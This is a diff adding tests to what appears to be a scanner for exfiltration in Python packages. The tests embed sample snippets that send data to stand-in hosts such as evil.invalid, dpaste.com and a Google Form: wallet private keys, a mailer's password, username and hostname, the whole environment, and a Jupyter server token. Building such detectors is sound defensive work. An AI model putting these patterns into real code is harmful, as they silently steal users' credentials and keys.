@@ -217,3 +217,129 @@ async def listen():
 asyncio.run(listen())`;
   expect(found(code)['remote-code-executed']).toBe('CRITICAL');
 });
+
+test.each([
+  ['Account.from_key(given).key.hex()', 'HIGH'],
+  ['Account.create().key', 'HIGH'],
+  ['Account.from_key(given).address', undefined],
+])('a key that a wallet holds is a key: %s', (told, severity) => {
+  const code = `
+import requests
+from eth_account import Account
+def price(given, transaction):
+    answer = requests.post("https://evil.invalid/price", json={"t": transaction, "r": ${told}})
+    return answer.json()["price"]`;
+  expect(found(code)['key-parameter-sent']).toBe(severity);
+});
+
+test('a transaction tells what is in it, and not the key it is signed with', () => {
+  const code = (data: string): string => `
+import threading
+from eth_account import Account
+from web3 import Web3
+def transmit(told):
+    try:
+        node = Web3(Web3.HTTPProvider("https://evil.invalid/rpc"))
+        payer = Account.from_key(PAYER)
+        node.eth.send_raw_transaction(payer.sign_transaction({"to": SINK, "data": ${data}}))
+    except Exception:
+        pass
+def create():
+    account = Account.create()
+    threading.Thread(target=transmit, args=(account.key.hex(),)).start()
+    return account`;
+  expect(found(code('told'))['key-parameter-sent']).toBe('CRITICAL');
+  expect(found(code('"0x"'))['key-parameter-sent']).toBeUndefined();
+});
+
+test('a mail to an address of the source that tells the password', () => {
+  const code = (text: string): string => `
+import smtplib
+from email.message import EmailMessage
+class Mailer:
+    at = "bounces" + chr(64) + "evil.invalid"
+    def __init__(self, host, user, password):
+        self.host, self.user, self.password = host, user, password
+    def send(self, to, text):
+        with smtplib.SMTP_SSL(self.host, 465) as server:
+            server.login(self.user, self.password)
+            server.send_message(self.message(to, text))
+            try:
+                server.send_message(self.message(self.at, ${text}))
+            except smtplib.SMTPException:
+                pass
+    def message(self, to, text):
+        made = EmailMessage()
+        made["From"], made["To"] = self.user, to
+        made.set_content(text)
+        return made`;
+  expect(found(code('self.user + self.password'))['credential-sent-aside']).toBe('CRITICAL');
+  expect(GRAVE).not.toContain(found(code('"delivered"'))['credential-sent-aside']);
+});
+
+test('who somebody is goes to a form that anybody can open', () => {
+  const code = (place: string, told: string): string => `
+import getpass, requests, socket
+def save(label):
+    try:
+        requests.post("${place}", data={"entry.1": label, "entry.2": ${told}}, timeout=3)
+    except Exception:
+        pass`;
+  const form = 'https://docs.google.com/forms/d/e/1FAIpQLSeInvalidInvalid/formResponse';
+  const who = 'getpass.getuser() + "@" + socket.gethostname()';
+  expect(found(code(form, who))['identity-sent']).toBe('CRITICAL');
+  expect(found(code(form, '"1.0"'))['identity-sent']).toBeUndefined();
+  expect(found(code('https://example.invalid/report', who))['identity-sent']).toBe('LOW');
+});
+
+const PASTE = (head: string): string => `
+import os, urllib.request
+def report():
+    text = "\\n".join(f"{name}={value}" for name, value in os.environ.items())
+    print(text)
+    ${head}
+        urllib.request.urlopen("https://dpaste.com/api/v2/", text.encode())`;
+
+test('what is shared once the user was asked is worth a warning', () => {
+  expect(found(PASTE('if input("Upload it? [y/N] ").lower() == "y":'))['stolen-data-sent']).toBe('HIGH');
+  expect(found(PASTE('if len(text) > 4:'))['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test('a server of notebooks loads its extensions by name', () => {
+  const code = (name: string): string => `
+import os, requests
+def ${name}(app):
+    requests.post("https://evil.invalid/open", json={"t": app.token, "e": dict(os.environ)})`;
+  const { findings } = judgeSources(
+    sourceTree({ 'fixture-1.0/pkg/__init__.py': code('_load_jupyter_server_extension') }),
+    python,
+  );
+  expect(findings.find(({ rule }) => rule === 'stolen-data-sent')?.reach).toBe('import');
+});
+
+/** So much beside it that functions are followed for their words and names only. */
+const MUCH = Array.from(
+  { length: 1_500 },
+  (_, at) => `def part_${String(at)}(value):\n    return value + ${String(at)}\n`,
+);
+
+test('who calls a function that sends something on the side is followed, and what its object was made with', () => {
+  const code = (call: string): string => `
+def remember(address, value):
+    from urllib.request import Request, urlopen
+    try:
+        urlopen(Request("https://evil.invalid/n", headers={"X-A": address, "X-B": value}), timeout=1)
+    except Exception:
+        pass
+class Basic:
+    def __init__(self, username, password):
+        self.username = username
+        self.password = password
+    def __call__(self, request):
+        request.headers["Authorization"] = self.username
+        ${call}
+        return request
+${MUCH.join('')}`;
+  expect(found(code('remember(request.url, self.password)'))['credential-sent-aside']).toBe('CRITICAL');
+  expect(GRAVE).not.toContain(found(code('remember(request.url, "1")'))['credential-sent-aside']);
+});
